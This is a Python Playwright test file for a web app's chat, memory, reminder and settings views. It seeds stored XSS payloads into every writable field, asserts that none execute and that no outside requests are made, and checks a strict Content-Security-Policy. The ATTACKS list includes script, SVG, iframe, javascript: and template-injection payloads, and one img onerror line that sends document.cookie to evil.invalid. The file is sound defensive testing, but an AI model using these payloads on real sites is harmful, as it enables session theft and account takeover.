"""R27: hostile text in every field is text; nothing runs, nothing leaves, the policy is strict."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import House, Opener, Watch
from tests.conftest import Figures

pytestmark = pytest.mark.browser
ATTACKS = (
    "<script>window.__ran=1</script>",
    "<img src=x onerror=\"window.__ran=1;fetch('http://evil.invalid/?'+document.cookie)\">",
    "<svg onload=window.__ran=1>",
    "\"><iframe srcdoc='<script>parent.__ran=1</script>'>",
    "javascript:window.__ran=1//",
    '<a href="javascript:window.__ran=1">抹茶</a>が好きです。',
    "<style>@import 'http://evil.invalid/x.css';body{background:url(http://evil.invalid/y)}</style>",
    "{{constructor.constructor('window.__ran=1')()}}",
    "![x](http://evil.invalid/z.png) [click](javascript:window.__ran=1)",
    "</title></textarea><meta http-equiv=refresh content='0;url=http://evil.invalid'>",
)
SCREENS = (
    "chat", "memory", "memory?tab=events", "memory/e1", "memory/s1", "why", "why/1", "heart", "timeline",
    "likes", "graph/e1", "care", "about", "reminders", "connections", "settings", "logs",
    "memory?q=%3Cscript%3E", "graph/t:%3Cscript%3E", "%3Cscript%3E",
)  # fmt: skip
REMINDER = {
    "enabled": True,
    "repeat_kind": "daily",
    "scheduled_at": None,
    "time_of_day": "09:30",
    "weekdays": [],
}


def poison(house: House) -> None:
    """Hostile text in every field a client can write."""
    for attack in ATTACKS:
        house.talk(attack)
    house.talk(f"{ATTACKS[2]} が好きです。私の名前は {ATTACKS[1]} です。")
    for attack in ATTACKS[:3]:
        house.call("POST", "/api/v2/notification", {"source_system": attack, "text": attack})
        house.call("POST", "/api/reminders", {**REMINDER, "content": attack})
    states = house.call("GET", "/api/memory/state")["items"]
    for state in states[:3]:
        house.call(
            "PATCH", f"/api/memory/state/{state['state_id']}", {"body_text": ATTACKS[1], "reason": ATTACKS[0]}
        )
    settings = house.call("GET", "/api/settings")
    settings["persona_preset"][0].update(
        persona_preset_name=ATTACKS[1], persona_text=ATTACKS[0], second_person_label=ATTACKS[2]
    )
    settings["llm_preset"][0]["llm_preset_name"] = ATTACKS[3]
    settings["addon_preset"][0].update(addon_preset_name=ATTACKS[1], addon_text=ATTACKS[0])
    house.call("PUT", "/api/settings", settings)
    house.settle()


def test_hostile_text_stays_text(house: House, open_page: Opener, watch: Watch, figures: Figures) -> None:
    poison(house)
    page = open_page(house)
    expect(page.locator(".turn").first).to_be_visible()
    ran = 0
    for screen in SCREENS:
        page.goto(f"{house.url}/#/{screen}")
        page.wait_for_load_state("networkidle")
        ran += int(page.evaluate("window.__ran ?? 0"))
        assert page.locator("main iframe, main script, main style, main meta").count() == 0, screen
    figures(
        "R27",
        f"{len(ATTACKS)} attacks on {len(SCREENS)} views: {ran} ran, {len(watch.strangers)} requests left",
    )
    assert ran == 0
    assert watch.strangers == []
    assert [line for line in watch.troubles if "404" not in line and "400" not in line] == []


def test_the_policy_is_strict(lived_in: House, open_page: Opener) -> None:
    page = open_page(lived_in)
    policy = page.request.get(lived_in.url).headers["content-security-policy"]
    for rule in (
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
    ):
        assert rule in policy
    assert "unsafe" not in policy
    blocked = page.evaluate(
        """() => { const s = document.createElement('script'); s.textContent = 'window.__inline = 1';
        document.body.append(s); return window.__inline === undefined; }"""
    )
    assert blocked
